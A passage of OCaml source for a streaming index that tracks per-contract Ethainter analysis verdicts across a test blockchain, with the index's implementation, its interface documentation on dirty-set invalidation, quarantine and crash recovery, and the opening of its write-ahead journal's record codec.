  (* cumulative counters (telemetry reads them under [mu]) *)
  mutable blocks_seen : int;
  mutable deployed : int;
  mutable invalidations : int;
  mutable analyses : int;
  mutable reanalyses : int;
  mutable destroyed : int;
  mutable dirty_last : int;
  mutable lag_total : int;      (* deployment -> first verdict, blocks *)
  mutable lag_verdicts : int;
  mutable quarantined_now : int;
  mutable quarantine_drops : int;  (* jobs short-circuited by an open breaker *)
  mutable quarantine_probes : int; (* backoff-expired retry jobs queued *)
  mutable recovered_verdicts : int;
  mutable replayed_events : int;
  mutable journal_errors : int;
}

let locked t f =
  Mutex.lock t.mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mu) f

(* ---------------- journaling ---------------- *)

(* The journal is best-effort in the face of a sick disk: an I/O
   failure drops durability (counted, and the journal is never touched
   again) rather than the service. A [Fault.Crashed] is not an I/O
   failure — it is the chaos suite's simulated process death and must
   reach the process driver. *)
let jget t = if t.journal_ok then t.journal else None

let journal_append t ev =
  match jget t with
  | None -> ()
  | Some j -> (
      try J.append j ev
      with
      | Fault.Crashed _ as e -> raise e
      | _ ->
          t.journal_ok <- false;
          t.journal_errors <- t.journal_errors + 1)

let snapshot_locked t : J.snapshot =
  let entries =
    Hashtbl.fold
      (fun _ e acc ->
        { J.e_addr = e.addr; e_code = e.code;
          e_deployed_block = e.deployed_block;
          e_queued_block = e.queued_block; e_runs = e.runs;
          e_state =
            (match e.state with
            (* quarantine is deliberately not durable: a restarted
               process gives the contract a fresh probe *)
            | `Pending | `Quarantined _ -> J.S_pending
            | `Indexed r -> J.S_indexed (r, e.indexed_block)
            | `Destroyed -> J.S_destroyed) }
        :: acc)
      t.entries []
  in
  { J.s_cursor = t.last_block; s_entries = entries }

let maybe_checkpoint_locked t =
  match jget t with
  | None -> ()
  | Some j ->
      t.blocks_since_ckpt <- t.blocks_since_ckpt + 1;
      if t.blocks_since_ckpt >= t.checkpoint_every then begin
        t.blocks_since_ckpt <- 0;
        try J.checkpoint j (snapshot_locked t)
        with
        | Fault.Crashed _ as e -> raise e
        | _ ->
            t.journal_ok <- false;
            t.journal_errors <- t.journal_errors + 1
      end

(* ---------------- dirty-set matching ---------------- *)

(* Slots at or above 2^64 are hash-derived (mapping/array members) —
   compiler-assigned constant slots are tiny, and keccak outputs
   reaching below 2^64 would need a 2^-192 collision. A write there
   cannot be attributed to one root (preimages are not invertible), so
   it dirties every data structure the verdict's guards read. *)
let hash_region = U.shift_left U.one 64

let slot_dirty (d : P.deps) (slot : U.t) : bool =
  d.P.dep_unknown
  || List.exists (U.equal slot) d.P.dep_slots
  || (d.P.dep_roots <> [] && U.compare slot hash_region >= 0)

(* ---------------- analysis jobs ---------------- *)

(* The job body runs on a pool worker domain (or inline). Failure
   containment is total — S.analyze_request never raises — so the
   accounting in the epilogue always runs.

   The poison-pill breaker brackets the analysis: an open breaker
   short-circuits the job (the entry parks as Quarantined — no pool
   time, no deadline budget burned), and every admitted outcome is
   reported back so consecutive timeouts/crashes eventually trip it. *)
let job (t : t) (e : entry) () =
  match S.Quarantine.check e.code with
  | S.Quarantine.Reject { r_failures; _ } ->
      locked t (fun () ->
          (match e.state with
          | `Pending ->
              e.state <- `Quarantined r_failures;
              t.quarantined_now <- t.quarantined_now + 1;
              t.quarantine_drops <- t.quarantine_drops + 1
          | `Indexed _ | `Destroyed | `Quarantined _ -> ());
          t.inflight <- t.inflight - 1;
          if t.inflight = 0 then Condition.broadcast t.quiescent)
  | S.Quarantine.Admit ->
      let r =
        S.analyze_request
          (P.request ~cfg:t.cfg ~timeout_s:t.timeout_s (P.Runtime e.code))
      in
      let failed =
        match r.P.error_kind with
        | Some P.Timeout | Some P.Fatal -> true
        | _ -> false
      in
      S.Quarantine.record e.code ~ok:(not failed);
      locked t (fun () ->
          (match e.state with
          | `Pending ->
              if
                failed && S.Quarantine.enabled ()
                && S.Quarantine.failures e.code >= S.Quarantine.threshold
              then begin
                e.state <- `Quarantined (S.Quarantine.failures e.code);
                t.quarantined_now <- t.quarantined_now + 1
              end
              else begin
                e.state <- `Indexed r;
                e.indexed_block <- t.last_block;
                journal_append t
                  (J.Ev_verdict
                     { ev_addr = e.addr; ev_indexed_block = e.indexed_block;
                       ev_runs = e.runs + 1; ev_result = r });
                if e.runs = 0 then begin
                  t.lag_total <- t.lag_total + (t.last_block - e.deployed_block);
                  t.lag_verdicts <- t.lag_verdicts + 1
                end
              end
          | `Indexed _ | `Destroyed | `Quarantined _ ->
              (* destroyed (or superseded) while we analyzed: the
                 verdict is already moot, drop it *)
              ());
          e.runs <- e.runs + 1;
          t.analyses <- t.analyses + 1;
          if e.runs > 1 then t.reanalyses <- t.reanalyses + 1;
          t.inflight <- t.inflight - 1;
          if t.inflight = 0 then Condition.broadcast t.quiescent)

(* Run the queued jobs, outside the index mutex. Inline fallback: a
   pool refusal (admission control under overload) runs the job on
   this thread rather than dropping it — the index must never lose a
   dirty contract. *)
let dispatch (t : t) (jobs : (unit -> unit) list) =
  List.iter
    (fun j ->
      match t.pool with
      | Some pool -> if not (S.Pool.submit pool j) then j ()
      | None -> j ())
    jobs

(* ---------------- block application ---------------- *)

(* Apply one block's effects to the entry table. Caller holds [t.mu]
   and has already checked the monotonic block-number guard. Shared by
   live ingestion (~live:true — journals the observation and returns
   analysis jobs to dispatch) and journal replay during recovery
   (~live:false — pure state reconstruction; dirtied entries are left
   Pending for the post-replay requeue pass).

   Order within the block matters: deployments first (a deploy+write
   in one block queues one analysis, not two), self-destructs last (a
   deploy+kill in one block nets out to Destroyed — though the chain
   already drops such contracts from [b_deployed]). *)
let apply_block (t : t) ~live (o : J.obs) =
  if live then journal_append t (J.Ev_block o);
  t.last_block <- o.J.o_number;
  t.blocks_seen <- t.blocks_seen + 1;
  if not live then t.replayed_events <- t.replayed_events + 1;
  let jobs = ref [] in
  let dirty = ref 0 in
  let queue e =
    e.state <- `Pending;
    e.queued_block <- o.J.o_number;
    incr dirty;
    if live then begin
      t.inflight <- t.inflight + 1;
      jobs := job t e :: !jobs
    end
  in
  (* deployments enter the index *)
  List.iter
    (fun (addr, code) ->
      let e =
        { addr; code; deployed_block = o.J.o_number;
          state = `Pending; queued_block = o.J.o_number;
          indexed_block = 0; runs = 0 }
      in
      Hashtbl.replace t.entries addr e;
      t.deployed <- t.deployed + 1;
      queue e)
    o.J.o_deployed;
  (* storage writes invalidate matching verdicts. A Pending entry
     (deployed this very block, or already re-queued) is left alone:
     its in-flight analysis is pure in the bytecode, so it already
     reflects the post-write chain. A Quarantined entry is already as
     dirty as it can be — the backoff probe will requeue it. *)
  List.iter
    (fun (addr, slot) ->
      match Hashtbl.find_opt t.entries addr with
      | Some ({ state = `Indexed r; _ } as e)
        when slot_dirty r.P.deps slot ->
          t.invalidations <- t.invalidations + 1;
          (* make the re-run a genuine back-end re-execution: the
             cached result would otherwise answer it *)
          P.invalidate_backend ~cfg:t.cfg e.code;
          queue e
      | _ -> ())
    o.J.o_writes;
  (* self-destructs are absorbing *)
  List.iter
    (fun addr ->
      match Hashtbl.find_opt t.entries addr with
      | Some e when e.state <> `Destroyed ->
          (match e.state with
          | `Quarantined _ -> t.quarantined_now <- t.quarantined_now - 1
          | _ -> ());
          e.state <- `Destroyed;
          t.destroyed <- t.destroyed + 1
      | _ -> ())
    o.J.o_destroyed;
  t.dirty_last <- !dirty;
  List.rev !jobs

(* Quarantined entries whose breaker backoff has expired get one probe
   job. Scanned per block only while something is quarantined (the
   common case costs one integer compare). *)
let probe_jobs_locked (t : t) =
  if t.quarantined_now = 0 then []
  else
    Hashtbl.fold
      (fun _ e acc ->
        match e.state with
        | `Quarantined _ when not (S.Quarantine.is_open e.code) ->
            e.state <- `Pending;
            e.queued_block <- t.last_block;
            t.quarantined_now <- t.quarantined_now - 1;
            t.quarantine_probes <- t.quarantine_probes + 1;
            t.inflight <- t.inflight + 1;
            job t e :: acc
        | _ -> acc)
      t.entries []

(* ---------------- block ingestion ---------------- *)

let obs_of_block (b : Testnet.block) : J.obs =
  { J.o_number = b.Testnet.b_number;
    o_deployed = b.Testnet.b_deployed;
    o_writes = b.Testnet.b_storage_writes;
    o_destroyed = b.Testnet.b_selfdestructed }

(* Process one sealed block: compute the dirty set under the mutex,
   collect the jobs, run them after release (a job's epilogue re-takes
   the mutex; and inline execution must not hold it). Called from the
   chain's sealing thread (the on_block observer) and from catch-up. *)
let handle_block (t : t) (b : Testnet.block) =
  let jobs =
    locked t (fun () ->
        if (not t.active) || b.Testnet.b_number <= t.last_block then []
        else begin
          let jobs = apply_block t ~live:true (obs_of_block b) in
          let jobs = jobs @ probe_jobs_locked t in
          maybe_checkpoint_locked t;
          jobs
        end)
  in
  dispatch t jobs

(* ---------------- telemetry ---------------- *)

let stats_locked (t : t) =
  let live = ref 0 and pending = ref 0 in
  Hashtbl.iter
    (fun _ e ->
      match e.state with
      | `Indexed _ -> incr live
      | `Pending -> incr pending
      | `Destroyed | `Quarantined _ -> ())
    t.entries;
  [ ("index_contracts", float_of_int !live);
    ("index_pending", float_of_int !pending);
    ("index_destroyed", float_of_int t.destroyed);
    ("index_blocks", float_of_int t.blocks_seen);
    ("index_deployed", float_of_int t.deployed);
    ("index_invalidations", float_of_int t.invalidations);
    ("index_analyses", float_of_int t.analyses);
    ("index_reanalyses", float_of_int t.reanalyses);
    ("index_dirty_last_block", float_of_int t.dirty_last);
    ("index_inflight", float_of_int t.inflight);
    ("index_lag_blocks_total", float_of_int t.lag_total);
    ("index_lag_verdicts", float_of_int t.lag_verdicts);
    ("index_quarantined", float_of_int t.quarantined_now);
    ("index_quarantine_drops", float_of_int t.quarantine_drops);
    ("index_quarantine_probes", float_of_int t.quarantine_probes);
    ("index_recovered_verdicts", float_of_int t.recovered_verdicts);
    ("index_replayed_events", float_of_int t.replayed_events);
    ("index_journal_errors", float_of_int t.journal_errors) ]
  @ (match t.journal with Some j -> J.stats j | None -> [])

let stats (t : t) = locked t (fun () -> stats_locked t)

(* ---------------- construction & recovery ---------------- *)

let make ?pool ?(cfg = Config.default) ?(timeout_s = 120.0)
    ?(checkpoint_every = 256) ~journal (chain : Testnet.t) : t =
  { mu = Mutex.create ();
    quiescent = Condition.create ();
    chain; pool; cfg; timeout_s;
    entries = Hashtbl.create 64;
    journal;
    checkpoint_every = max 1 checkpoint_every;
    journal_ok = journal <> None;
    blocks_since_ckpt = 0;
    active = true;
    last_block = 0; inflight = 0; blocks_seen = 0; deployed = 0;
    invalidations = 0; analyses = 0; reanalyses = 0; destroyed = 0;
    dirty_last = 0; lag_total = 0; lag_verdicts = 0;
    quarantined_now = 0; quarantine_drops = 0; quarantine_probes = 0;
    recovered_verdicts = 0; replayed_events = 0; journal_errors = 0 }

(* tail first, then catch up from [t.last_block]: handle_block's
   monotonic block-number guard makes the two streams overlap-safe, so
   no block is lost or processed twice *)
let attach (t : t) =
  Testnet.on_block t.chain (fun b -> handle_block t b);
  List.iter (fun b -> handle_block t b)
    (Testnet.blocks_since t.chain t.last_block);
  Telemetry.register_source "index" (fun () -> stats t)

let create ?pool ?cfg ?timeout_s (chain : Testnet.t) : t =
  let t = make ?pool ?cfg ?timeout_s ~journal:None chain in
  attach t;
  t

let entry_of_journal (je : J.entry) : entry =
  { addr = je.J.e_addr;
    code = je.J.e_code;
    deployed_block = je.J.e_deployed_block;
    state =
      (match je.J.e_state with
      | J.S_pending -> `Pending
      | J.S_indexed (r, _) -> `Indexed r
      | J.S_destroyed -> `Destroyed);
    queued_block = je.J.e_queued_block;
    indexed_block = (match je.J.e_state with
                    | J.S_indexed (_, ib) -> ib
                    | J.S_pending | J.S_destroyed -> 0);
    runs = je.J.e_runs }

(* A replayed verdict lands exactly like a live one: only onto a
   still-Pending entry (a later replayed destroy or invalidation wins
   over it, same as live). *)
let replay_event_locked (t : t) = function
  | J.Ev_block o ->
      if o.J.o_number > t.last_block then ignore (apply_block t ~live:false o)
  | J.Ev_verdict { ev_addr; ev_indexed_block; ev_runs; ev_result } -> (
      t.replayed_events <- t.replayed_events + 1;
      match Hashtbl.find_opt t.entries ev_addr with
      | Some ({ state = `Pending; _ } as e) ->
          e.state <- `Indexed ev_result;
          e.indexed_block <- ev_indexed_block;
          e.runs <- max e.runs ev_runs;
          t.recovered_verdicts <- t.recovered_verdicts + 1
      | _ -> ())

let recover ?pool ?cfg ?timeout_s ?checkpoint_every ~journal_dir
    (chain : Testnet.t) : t =
  let j, rc = J.recover ~dir:journal_dir in
  let t = make ?pool ?cfg ?timeout_s ?checkpoint_every ~journal:(Some j) chain in
  let jobs =
    locked t (fun () ->
        (match rc.J.r_snapshot with
        | Some snap ->
            t.last_block <- snap.J.s_cursor;
            List.iter
              (fun je ->
                let e = entry_of_journal je in
                Hashtbl.replace t.entries e.addr e;
                match e.state with
                | `Indexed _ ->
                    t.recovered_verdicts <- t.recovered_verdicts + 1
                | _ -> ())
              snap.J.s_entries
        | None -> ());
        List.iter (replay_event_locked t) rc.J.r_events;
        (* whatever is still Pending was dirty at (or dirtied since)
           the crash: requeue it — these are the only analyses a clean
           recovery performs *)
        Hashtbl.fold
          (fun _ e acc ->
            match e.state with
            | `Pending ->
                t.inflight <- t.inflight + 1;
                job t e :: acc
            | _ -> acc)
          t.entries [])
  in
  dispatch t jobs;
  (* then catch up with everything the chain sealed past the persisted
     cursor, and tail *)
  attach t;
  t

(* ---------------- queries ---------------- *)

let lookup (t : t) (addr : U.t) : status =
  locked t (fun () ->
      match Hashtbl.find_opt t.entries addr with
      | None -> Unknown
      | Some e -> (
          match e.state with
          | `Pending -> Pending e.queued_block
          | `Destroyed -> Destroyed
          | `Quarantined failures -> Quarantined failures
          | `Indexed r ->
              Indexed
                { v_addr = e.addr; v_code = e.code;
                  v_deployed_block = e.deployed_block;
                  v_indexed_block = e.indexed_block; v_result = r }))

let drain (t : t) =
  locked t (fun () ->
      while t.inflight > 0 do
        Condition.wait t.quiescent t.mu
      done)

let contents (t : t) : (U.t * string * P.result) list =
  locked t (fun () ->
      Hashtbl.fold
        (fun _ e acc ->
          match e.state with
          | `Indexed r -> (e.addr, e.code, r) :: acc
          | `Pending | `Destroyed | `Quarantined _ -> acc)
        t.entries [])
  |> List.sort (fun (a, _, _) (b, _, _) -> U.compare a b)

let last_block (t : t) = locked t (fun () -> t.last_block)

let detach (t : t) =
  locked t (fun () -> t.active <- false);
  Telemetry.unregister_source "index"

let close (t : t) =
  detach t;
  drain t;
  match t.journal with
  | None -> ()
  | Some j -> (
      locked t (fun () ->
          if t.journal_ok then
            try J.close j (snapshot_locked t)
            with
            | Fault.Crashed _ as e -> raise e
            | _ ->
                t.journal_ok <- false;
                t.journal_errors <- t.journal_errors + 1))
