(** Streaming analysis index: per-contract verdicts that follow the
    chain.

    The paper's evaluation is a one-shot sweep over a blockchain
    snapshot (§6); a deployment-tracking service instead maintains a
    continuously-updated index driven by the block stream. An
    {!t} attaches to a {!Ethainter_chain.Testnet}, consumes its sealed
    blocks (catching up from genesis, then tailing via the
    block-observation hook) and keeps one analysis verdict per live
    contract current.

    {2 Dirty-set computation}

    On each block the index decides what to (re-)analyze:

    - {b deployments} ([b_deployed] — direct or via factory
      CREATE/CREATE2) enter the index and are queued for analysis;
    - {b storage writes} ([b_storage_writes]) are matched against each
      indexed verdict's recorded storage footprint
      ({!Ethainter_core.Pipeline.deps} — the slots its guard slices
      read). A matching write (an admin-key rotation hitting
      [dep_slots], a mapping update hitting a [dep_roots] structure, or
      any write when [dep_unknown]) {b invalidates} the verdict: the
      contract is re-queued and its cached back-end result is dropped
      ({!Ethainter_core.Pipeline.invalidate_backend}) so the re-run is
      a genuine fixpoint re-execution — while the config-independent
      front end still hits its cache and is {e never} recomputed;
    - {b self-destructs} ([b_selfdestructed]) mark the entry
      {!Destroyed}; in-flight results for it are discarded.

    Untouched contracts keep their verdicts; nothing else runs.

    {2 Soundness assumptions (over-approximation)}

    The dirty set errs only towards re-analysis, under these explicit
    assumptions: (1) a verdict depends on chain state only through the
    storage slots in its recorded footprint — true because the
    analysis reads nothing else of the world; (2) hash-derived
    (mapping/array member) slots never collide with the small constant
    slots, so a write at slot ≥ 2{^64} is attributed to {e every} data
    structure the contract's guards read ([dep_roots] — preimages are
    not invertible, so root-precise attribution is impossible), and a
    write below 2{^64} only to its exact [dep_slots] match; (3) failed
    or timed-out verdicts carry the conservative footprint (any write
    re-queues them); (4) block effect lists themselves over-approximate
    (inner-revert writes are kept). Since the analysis is pure in the
    bytecode, re-analysis never changes a verdict's {e content} — what
    it refreshes is the verdict's provenance: after {!drain}, every
    verdict provably reflects a post-write re-execution, which is what
    the incremental==batch differential checks.

    {2 Durability}

    An index opened with {!recover} journals every block observation
    and verdict transition through {!Journal} (write-ahead log +
    periodic compacted checkpoints) and {!close} writes a final clean
    checkpoint, so the accumulated verdicts survive the process: a
    crashed or killed daemon restarts with {!recover}, replays
    checkpoint + journal, re-subscribes from the persisted cursor and
    re-analyzes {e only} contracts that were dirty at (or dirtied
    since) the crash — clean contracts' verdicts are served from the
    checkpoint with zero recomputation. Journal I/O failure after open
    degrades the index to non-durable operation (counted under
    [index_journal_errors]) instead of failing ingestion.

    {2 Quarantine}

    Analysis jobs consult {!Ethainter_core.Scheduler.Quarantine}: a
    contract whose analyses keep timing out or crashing (3
    consecutive) parks as {!Quarantined} — subsequent dirtying costs
    nothing until the breaker's exponential backoff expires and a
    probe re-analysis is queued. Quarantine is per-process and
    deliberately not durable: a restarted daemon gives the contract a
    fresh probe. *)

module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler

type verdict = {
  v_addr : U.t;
  v_code : string;          (** runtime bytecode analyzed *)
  v_deployed_block : int;   (** block that brought the contract in *)
  v_indexed_block : int;    (** chain head when this verdict landed *)
  v_result : P.result;
}

type status =
  | Unknown                      (** never seen on this chain *)
  | Pending of int               (** queued at this block; no verdict yet
                                     (or the previous one was invalidated) *)
  | Indexed of verdict
  | Destroyed                    (** self-destructed; last verdict dropped *)
  | Quarantined of int
      (** the poison-pill breaker is open for this bytecode after this
          many consecutive failed analyses; a probe re-analysis runs
          when the backoff expires *)

type t

val create :
  ?pool:S.Pool.t ->
  ?cfg:Ethainter_core.Config.t ->
  ?timeout_s:float ->
  Ethainter_chain.Testnet.t -> t
(** Attach an index to a chain: catch up on every already-sealed block
    ([blocks_since 0]), then tail via the block-observation hook.
    Analysis jobs run on [pool] when given — sharing the daemon's
    worker domains, deadline and fault machinery via
    {!S.analyze_request} — with {b inline fallback}: a submission
    refused by admission control runs synchronously rather than being
    lost. Without a pool, jobs run inline on the sealing thread.
    [cfg] defaults to {!Ethainter_core.Config.default}, [timeout_s] to
    the paper's 120 s cutoff.

    Creation registers the index as the {!Ethainter_core.Telemetry}
    source ["index"] (replacing any previous index's registration).

    The chain must not seal blocks concurrently with [create].

    A [create]d index is {b ephemeral} — nothing is journaled; use
    {!recover} for a durable one. *)

val recover :
  ?pool:S.Pool.t ->
  ?cfg:Ethainter_core.Config.t ->
  ?timeout_s:float ->
  ?checkpoint_every:int ->
  journal_dir:string ->
  Ethainter_chain.Testnet.t -> t
(** Open (or create) the durable index rooted at [journal_dir]:
    reconstruct state from the newest valid checkpoint plus journal
    replay ({!Journal.recover} — torn tails tolerated, corrupt newest
    checkpoint falls back a generation), requeue every entry that was
    dirty at the crash, then catch up from the persisted cursor via
    [blocks_since] and tail the chain — exactly {!create}'s attachment
    semantics from a warm start. An empty or missing directory starts
    fresh. All subsequent observations are journaled; every
    [checkpoint_every] blocks (default 256) the journal is compacted
    into a fsync'd checkpoint.

    The chain handed in must be (a replay of) the same chain the
    journal was written against — deployments are matched by address
    and bytecode, so a diverging chain surfaces as re-analysis, never
    as a wrong verdict served. *)

val close : t -> unit
(** Graceful shutdown: {!detach}, {!drain} (in-flight verdicts land),
    then write a final clean checkpoint and close the journal. After
    [close], {!recover} on the same directory restores this exact
    index with zero journal replay and zero re-analysis. Idempotent;
    a no-op beyond detach+drain for a {!create}d index. *)

val lookup : t -> U.t -> status
(** Current status of an address. Thread-safe. *)

val drain : t -> unit
(** Block until no analysis job is queued or running — after this,
    every entry is [Indexed] or [Destroyed] and reflects every block
    sealed before the call. (With an external pool under concurrent
    load, quiescence means {e this index's} jobs have completed.) *)

val contents : t -> (U.t * string * P.result) list
(** All [Indexed] entries — (address, bytecode, verdict) sorted by
    address. {!drain} first for a complete view; the incremental==batch
    differential compares this against a cold sweep of
    {!Ethainter_chain.Testnet.live_contracts}. *)

val last_block : t -> int
(** Highest block number processed. *)

val stats : t -> (string * float) list
(** The index's telemetry pairs (also sampled into
    [Telemetry.snapshot.extras] under source ["index"]):
    [index_contracts] (live indexed), [index_pending],
    [index_destroyed] (cumulative), [index_blocks] (processed),
    [index_deployed] (cumulative entries), [index_invalidations]
    (verdicts re-queued by matching writes, cumulative),
    [index_analyses] (jobs completed), [index_reanalyses] (completed
    jobs beyond a contract's first), [index_dirty_last_block]
    (deploys + invalidations queued by the newest block),
    [index_inflight], [index_lag_blocks_total]/[index_lag_verdicts]
    (summed deployment→first-verdict lag in blocks, and its count —
    divide for mean lag).

    PR 9 additions: [index_quarantined] (entries parked right now),
    [index_quarantine_drops] (jobs short-circuited by an open
    breaker), [index_quarantine_probes] (backoff-expired retries
    queued), [index_recovered_verdicts] (verdicts restored from
    checkpoint+journal, not recomputed), [index_replayed_events]
    (journal records applied during recovery),
    [index_journal_errors]; durable indexes add the
    {!Journal.stats} pairs ([journal_appends],
    [journal_checkpoints], [journal_generation],
    [journal_wal_bytes]). *)

val detach : t -> unit
(** Stop consuming blocks (the chain-side observer becomes a no-op),
    unregister the telemetry source and drop no data. Idempotent.
    In-flight jobs still complete; {!drain} remains valid. *)
