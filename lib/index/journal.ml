(* Write-ahead journal for the streaming index. See journal.mli for
   the design and the crash-safety contract. *)

module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module Fault = Ethainter_runtime.Fault

(* ---------------- record framing ---------------- *)

(* Same discipline as the serving stack's Frame codec (magic, version,
   kind, big-endian length, FNV-64 digest over everything but the
   magic), with its own magic: journal files are not wire frames and
   must never be confused with them. *)

let magic = "ETJR"
let version = 1
let header_size = 18 (* 4 magic + 1 version + 1 kind + 4 len + 8 digest *)
let max_payload = 64 * 1024 * 1024

let fnv_prime = 0x100000001b3
let fnv_seed = 0x3bf29ce484222325

let digest ~kind ~len payload =
  let h = ref fnv_seed in
  let step b = h := (!h lxor b) * fnv_prime in
  step version;
  step (Char.code kind);
  step ((len lsr 24) land 0xff);
  step ((len lsr 16) land 0xff);
  step ((len lsr 8) land 0xff);
  step (len land 0xff);
  for i = 0 to String.length payload - 1 do
    step (Char.code (String.unsafe_get payload i))
  done;
  !h

let encode_record ~kind payload =
  let len = String.length payload in
  if len > max_payload then invalid_arg "Journal: record too large";
  let b = Bytes.create (header_size + len) in
  Bytes.blit_string magic 0 b 0 4;
  Bytes.set b 4 (Char.chr version);
  Bytes.set b 5 kind;
  Bytes.set_int32_be b 6 (Int32.of_int len);
  Bytes.set_int64_be b 10 (Int64.of_int (digest ~kind ~len payload));
  Bytes.blit_string payload 0 b header_size len;
  Bytes.unsafe_to_string b

(* Decode the record at [pos]. [None] means the bytes from [pos] on are
   not a valid record — a torn tail, garbage, or silence; the caller
   stops replaying there. *)
let decode_record buf ~pos : (char * string * int) option =
  if pos + header_size > String.length buf then None
  else if String.sub buf pos 4 <> magic then None
  else if Char.code buf.[pos + 4] <> version then None
  else
    let kind = buf.[pos + 5] in
    let len = Int32.to_int (String.get_int32_be buf (pos + 6)) in
    if len < 0 || len > max_payload then None
    else if pos + header_size + len > String.length buf then None
    else
      let dg = Int64.to_int (String.get_int64_be buf (pos + 10)) in
      let payload = String.sub buf (pos + header_size) len in
      if dg <> digest ~kind ~len payload then None
      else Some (kind, payload, header_size + len)

(* ---------------- journaled state ---------------- *)

type obs = {
  o_number : int;
  o_deployed : (U.t * string) list;
  o_writes : (U.t * U.t) list;
  o_destroyed : U.t list;
}

type event =
  | Ev_block of obs
  | Ev_verdict of {
      ev_addr : U.t;
      ev_indexed_block : int;
      ev_runs : int;
      ev_result : P.result;
    }

type entry_state =
  | S_pending
  | S_indexed of P.result * int
  | S_destroyed

type entry = {
  e_addr : U.t;
  e_code : string;
  e_deployed_block : int;
  e_queued_block : int;
  e_runs : int;
  e_state : entry_state;
}

type snapshot = { s_cursor : int; s_entries : entry list }

(* ---------------- payload codecs ---------------- *)

(* Line-oriented text with length-prefixed raw blobs, like the proto /
   telemetry codecs. The framing digest already guarantees integrity;
   these parsers only need to be total (raise Parse, caught into
   None). *)

exception Parse

let kind_block = 'B'
let kind_verdict = 'V'
let kind_checkpoint = 'K'

let addr_hex = U.to_hex

let addr_of s = try U.of_hex s with _ -> raise Parse

let int_of s = match int_of_string_opt s with Some n -> n | None -> raise Parse

let bline b fmt = Printf.ksprintf (fun s -> Buffer.add_string b s;
                                            Buffer.add_char b '\n') fmt

let bblob b s =
  Buffer.add_string b s;
  Buffer.add_char b '\n'

let line buf pos =
  match String.index_from_opt buf !pos '\n' with
  | None -> raise Parse
  | Some i ->
      let l = String.sub buf !pos (i - !pos) in
      pos := i + 1;
      l

let blob buf pos n =
  if n < 0 || !pos + n >= String.length buf then raise Parse;
  let s = String.sub buf !pos n in
  if buf.[!pos + n] <> '\n' then raise Parse;
  pos := !pos + n + 1;
  s

let words l = String.split_on_char ' ' l

let encode_block (o : obs) : string =
  let b = Buffer.create 256 in
  bline b "block %d %d %d %d" o.o_number
    (List.length o.o_deployed) (List.length o.o_writes)
    (List.length o.o_destroyed);
  List.iter
    (fun (a, code) ->
      bline b "d %s %d" (addr_hex a) (String.length code);
      bblob b code)
    o.o_deployed;
  List.iter
    (fun (a, slot) -> bline b "w %s %s" (addr_hex a) (addr_hex slot))
    o.o_writes;
  List.iter (fun a -> bline b "k %s" (addr_hex a)) o.o_destroyed;
  Buffer.contents b

let decode_block buf : obs =
  let pos = ref 0 in
  let nd, nw, nk, number =
    match words (line buf pos) with
    | [ "block"; n; d; w; k ] -> (int_of d, int_of w, int_of k, int_of n)
    | _ -> raise Parse
  in
  let deployed =
    List.init nd (fun _ ->
        match words (line buf pos) with
        | [ "d"; a; len ] -> (addr_of a, blob buf pos (int_of len))
        | _ -> raise Parse)
  in
  let writes =
    List.init nw (fun _ ->
        match words (line buf pos) with
        | [ "w"; a; s ] -> (addr_of a, addr_of s)
        | _ -> raise Parse)
  in
  let killed =
    List.init nk (fun _ ->
        match words (line buf pos) with
        | [ "k"; a ] -> addr_of a
        | _ -> raise Parse)
  in
  { o_number = number; o_deployed = deployed; o_writes = writes;
    o_destroyed = killed }

let encode_verdict ~addr ~indexed_block ~runs ~(result : P.result) : string =
  let b = Buffer.create 256 in
  let payload = P.encode_result result in
  bline b "verdict %s %d %d %d" (addr_hex addr) indexed_block runs
    (String.length payload);
  bblob b payload;
  Buffer.contents b

let decode_verdict buf : event =
  let pos = ref 0 in
  match words (line buf pos) with
  | [ "verdict"; a; ib; runs; len ] -> (
      let raw = blob buf pos (int_of len) in
      match P.decode_result raw with
      | None -> raise Parse
      | Some r ->
          Ev_verdict
            { ev_addr = addr_of a; ev_indexed_block = int_of ib;
              ev_runs = int_of runs; ev_result = r })
  | _ -> raise Parse

let ckpt_magic = "ethainter.index.ckpt.v1"

let encode_snapshot (s : snapshot) : string =
  let b = Buffer.create 4096 in
  bline b "%s" ckpt_magic;
  bline b "cursor %d" s.s_cursor;
  bline b "entries %d" (List.length s.s_entries);
  List.iter
    (fun e ->
      (match e.e_state with
      | S_pending ->
          bline b "e %s %d %d %d pending" (addr_hex e.e_addr)
            e.e_deployed_block e.e_queued_block e.e_runs
      | S_destroyed ->
          bline b "e %s %d %d %d destroyed" (addr_hex e.e_addr)
            e.e_deployed_block e.e_queued_block e.e_runs
      | S_indexed (_, ib) ->
          bline b "e %s %d %d %d indexed %d" (addr_hex e.e_addr)
            e.e_deployed_block e.e_queued_block e.e_runs ib);
      bline b "code %d" (String.length e.e_code);
      bblob b e.e_code;
      match e.e_state with
      | S_indexed (r, _) ->
          let raw = P.encode_result r in
          bline b "result %d" (String.length raw);
          bblob b raw
      | S_pending | S_destroyed -> ())
    s.s_entries;
  Buffer.contents b

let decode_snapshot buf : snapshot =
  let pos = ref 0 in
  if line buf pos <> ckpt_magic then raise Parse;
  let cursor =
    match words (line buf pos) with
    | [ "cursor"; n ] -> int_of n
    | _ -> raise Parse
  in
  let n =
    match words (line buf pos) with
    | [ "entries"; n ] -> int_of n
    | _ -> raise Parse
  in
  let entries =
    List.init n (fun _ ->
        let addr, deployed, queued, runs, state =
          match words (line buf pos) with
          | [ "e"; a; d; q; r; "pending" ] ->
              (addr_of a, int_of d, int_of q, int_of r, `Pending)
          | [ "e"; a; d; q; r; "destroyed" ] ->
              (addr_of a, int_of d, int_of q, int_of r, `Destroyed)
          | [ "e"; a; d; q; r; "indexed"; ib ] ->
              (addr_of a, int_of d, int_of q, int_of r, `Indexed (int_of ib))
          | _ -> raise Parse
        in
        let code =
          match words (line buf pos) with
          | [ "code"; len ] -> blob buf pos (int_of len)
          | _ -> raise Parse
        in
        let state =
          match state with
          | `Pending -> S_pending
          | `Destroyed -> S_destroyed
          | `Indexed ib -> (
              match words (line buf pos) with
              | [ "result"; len ] -> (
                  match P.decode_result (blob buf pos (int_of len)) with
                  | Some r -> S_indexed (r, ib)
                  | None -> raise Parse)
              | _ -> raise Parse)
        in
        { e_addr = addr; e_code = code; e_deployed_block = deployed;
          e_queued_block = queued; e_runs = runs; e_state = state })
  in
  { s_cursor = cursor; s_entries = entries }

let encode_event = function
  | Ev_block o -> (kind_block, encode_block o)
  | Ev_verdict { ev_addr; ev_indexed_block; ev_runs; ev_result } ->
